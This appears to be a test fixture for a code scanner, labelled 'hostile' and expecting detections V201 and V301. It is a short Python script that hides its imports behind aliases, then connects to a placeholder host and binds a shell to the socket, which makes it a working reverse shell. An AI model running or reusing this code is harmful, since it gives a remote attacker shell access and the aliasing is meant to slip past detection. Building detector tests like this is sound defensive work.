# label: hostile
# expect: V201 V301
# note: Aliases of aliases and re-assignments, such as careless people write, but with a purpose.
import os as operating
import socket as plug
from subprocess import Popen as Document

helper = operating
del operating
tool = helper.system
make = Document
wire = getattr(plug, "socket")()
go = wire.connect
go(("192.0.2.12", 80))
tool("id")
make(["sh"], stdin=wire, stdout=wire)
